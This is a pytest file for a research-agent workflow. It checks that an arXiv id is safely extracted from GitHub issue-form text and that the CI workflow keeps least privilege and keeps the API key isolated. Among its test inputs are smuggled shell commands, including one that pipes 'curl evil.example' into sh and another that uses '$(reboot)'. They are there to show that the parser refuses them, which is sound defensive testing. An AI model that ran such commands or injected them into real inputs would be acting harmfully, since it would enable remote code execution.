"""The paper-request issue form -> the research assistant's workflow: the Link field read from a
submitted form's Markdown (untrusted text: only a validated arXiv id comes out), the form and the
parser agreeing on the field, and agent-research.yml doing what issue 15 asks (labelled issues,
least privilege with each write explained, a draft pull request opened by the workflow, never by
the agent)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from odyssey.agents.research.issue_form import LINK_LABEL, link, paper_id

ROOT = Path(__file__).resolve().parents[3]
FORM = ROOT / ".github" / "ISSUE_TEMPLATE" / "paper_request.yml"
WORKFLOW = ROOT / ".github" / "workflows" / "agent-research.yml"


def body(link_answer: str) -> str:
    """An issue body as GitHub writes a submitted paper-request form."""
    return (
        "### Title\n\nTinyDigitNet\n\n### Authors\n\nAda Example, Ben Sample\n\n"
        "### Year\n\n2021\n\n"
        f"### Link\n\n{link_answer}\n\n### Dataset\n\nMNIST\n\n"
        "### The claimed numbers to reproduce\n\n- Test error 1.1 %\n\n"
        "### What it needs from the library\n\n_No response_\n"
    )


def test_the_form_has_the_link_field_the_parser_reads() -> None:
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    (field,) = [item for item in form["body"] if item.get("id") == "link"]
    assert field["attributes"]["label"] == LINK_LABEL
    assert field["validations"]["required"] is True


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("https://arxiv.org/abs/2101.00001", "2101.00001"),
        ("<https://arxiv.org/pdf/2101.00001v2.pdf>", "2101.00001v2"),
        ("arXiv:cs/0101001", "cs/0101001"),
        ("  2101.00001  ", "2101.00001"),
    ],
)
def test_the_link_becomes_an_arxiv_id(answer: str, expected: str) -> None:
    assert paper_id(body(answer)) == expected
    assert paper_id(body(answer).replace("\n", "\r\n")) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (body("https://doi.org/10.1109/5.726791"), "is not an arXiv id or arxiv.org URL"),
        (body('2101.00001"; curl evil.example | sh; echo "'), "is not an arXiv id or arxiv.org"),
        (body("https://arxiv.org/abs/2101.00001\n$(reboot)"), None),  # the first line only
        (body("_No response_"), "the issue's Link field is empty"),
        ("Please add LeNet", "has no '### Link' field"),
    ],
)
def test_anything_but_an_arxiv_link_is_refused(text: str, message: str | None) -> None:
    if message is None:
        assert paper_id(text) == "2101.00001"
        return
    with pytest.raises(ValueError, match=re.escape(message)):
        paper_id(text)


def test_the_link_is_the_first_answer_line_under_its_heading() -> None:
    assert link("### Link\n\n\nhttps://arxiv.org/abs/1\nmore\n### Dataset\n") == (
        "https://arxiv.org/abs/1"
    )


def test_the_module_prints_one_output_line_or_fails_with_one_error() -> None:
    command = [sys.executable, "-m", "odyssey.agents.research.issue_form"]
    # This run's environment (how it imports odyssey; LD_PRELOAD under the sanitizers) without
    # a runner's GITHUB_* files, and the form.
    env = {key: value for key, value in os.environ.items() if not key.startswith("GITHUB_")}
    env["ISSUE_BODY"] = body("https://arxiv.org/abs/2101.00001")
    done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout, done.stderr) == (0, "paper=2101.00001\n", "")
    env["ISSUE_BODY"] = body("https://doi.org/10.1109/5.726791")
    done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (2, "")
    assert len(done.stderr.strip().splitlines()) == 1


def load_workflow() -> dict[str, Any]:
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    workflow["on"] = workflow.pop(True)
    return workflow


def test_the_workflow_runs_on_a_labelled_paper_request_with_least_privilege() -> None:
    workflow = load_workflow()
    assert workflow["on"] == {"issues": {"types": ["labeled"]}}
    assert workflow["permissions"] == {"contents": "read"}
    jobs = workflow["jobs"]
    assert jobs["draft"]["if"] == "github.event.label.name == 'paper-request'"
    # The issue's body comes in the event payload: the job holding the key reads no issue.
    assert jobs["draft"]["permissions"] == {"contents": "read"}
    assert jobs["pull-request"]["permissions"] == {"contents": "write", "pull-requests": "write"}
    text = WORKFLOW.read_text(encoding="utf-8")
    for scope in ("contents: read", "contents: write", "pull-requests: write"):
        assert re.search(rf"^\s+{scope} # \w", text, re.MULTILINE), scope  # each says why
    assert "github.event.issue.number" in workflow["concurrency"]["group"]
    # The key reaches one step, in the job that cannot write; the writing job never sees it.
    assert text.count("secrets.ANTHROPIC_API_KEY") == 1
    assert "ANTHROPIC_API_KEY" in str(jobs["draft"])
    assert "ANTHROPIC_API_KEY" not in str(jobs["pull-request"])
    # ... and that step only asks: the draft (template hooks, the model's code) runs without it.
    (keyed,) = [step for step in jobs["draft"]["steps"] if "ANTHROPIC_API_KEY" in str(step)]
    assert "--save-answer draft/answer.json" in keyed["run"]
    assert jobs["draft"]["environment"] == "agents"


def test_the_workflow_not_the_agent_commits_and_opens_a_draft_pull_request() -> None:
    jobs = load_workflow()["jobs"]
    steps = [step for job in jobs.values() for step in job["steps"]]
    scripts = [str(step.get("run", "")) for step in steps]
    agent = next(script for script in scripts if "odyssey agent research" in script)
    assert '-- "$PAPER"' in agent  # a validated id, after `--`
    assert "git commit" not in str(jobs["draft"])
    pull_request = "\n".join(str(step.get("run", "")) for step in jobs["pull-request"]["steps"])
    assert "commit -m" in pull_request
    assert "gh pr create --draft" in pull_request
    form_step = next(step for step in steps if "issue_form" in str(step.get("run", "")))
    assert form_step["env"] == {"ISSUE_BODY": "${{ github.event.issue.body }}"}
    assert all("${{" not in script for script in scripts)


def test_a_link_that_is_no_arxiv_paper_is_explained_in_the_run() -> None:
    jobs = load_workflow()["jobs"]
    form = next(step for step in jobs["draft"]["steps"] if step.get("id") == "form")
    assert '>> "$GITHUB_STEP_SUMMARY"' in form["run"]
    assert "::error::the issue's Link is not an arXiv id" in form["run"]


def test_the_report_in_the_pull_request_body_cannot_close_its_fence(tmp_path: Path) -> None:
    # The pull-request job's own lines, run on a log holding fences of 3 and 5 backticks.
    script = next(
        step["run"]
        for step in load_workflow()["jobs"]["pull-request"]["steps"]
        if "gh pr create" in str(step.get("run", ""))
    )
    lines = [line.strip() for line in script.splitlines()]
    start = lines.index("fence='```'")
    log = tmp_path / "draft" / "agent.log"
    log.parent.mkdir()
    log.write_text("```\n<!-- x -->\n`````\n@someone\n", encoding="utf-8")
    snippet = "\n".join([*lines[start : start + 2], 'printf %s "$fence"'])
    done = subprocess.run(
        ["bash", "-euo", "pipefail", "-c", snippet],
        env={"RUNNER_TEMP": str(tmp_path), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout == "`" * 6


def test_the_folder_name_is_checked_without_a_line_based_tool() -> None:
    script = "\n".join(
        str(step.get("run", "")) for step in load_workflow()["jobs"]["pull-request"]["steps"]
    )
    assert "[[ $FOLDER =~ ^[a-z][a-z0-9_]{0,39}$ ]]" in script
